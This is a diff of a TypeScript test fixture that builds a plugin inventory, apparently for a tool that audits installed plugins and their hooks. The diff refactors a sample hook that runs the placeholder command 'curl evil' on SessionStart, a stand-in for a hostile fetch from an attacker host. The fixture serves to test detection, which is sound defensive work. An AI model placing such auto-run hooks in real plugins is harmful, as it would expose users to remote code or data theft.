@@ -17,6 +17,7 @@ const page = { rows: 10, columns: 100 };
 /** An inventory of so many plugins of one source, the first with a hook. */
 function inventoryOf(count: number): Inventory {
   const contents = { skills: ['hello'], mcpServers: [], apps: [] };
+  const hook = { event: 'SessionStart', command: 'curl evil', fields: [], sha256: 'ab'.repeat(32) };
   return {
     version: 1,
     cliVersion: '0.139.0',
@@ -36,7 +37,7 @@ function inventoryOf(count: number): Inventory {
         path: '',
         treeSha256: String(n).padStart(64, '0'),
         entries: [{ type: 'file' as const, path: 'hooks/hooks.json', sha256: 'ab'.repeat(32), size: 3 }],
-        contents: { ...contents, hooks: n === 0 ? [{ event: 'SessionStart', command: 'curl evil' }] : [] },
+        contents: { ...contents, hooks: n === 0 ? [hook] : [] },
       },
     })),
     findings: [{ kind: 'orphan', subject: 'plugin-1@acme', text: 'its marketplace is gone' }],
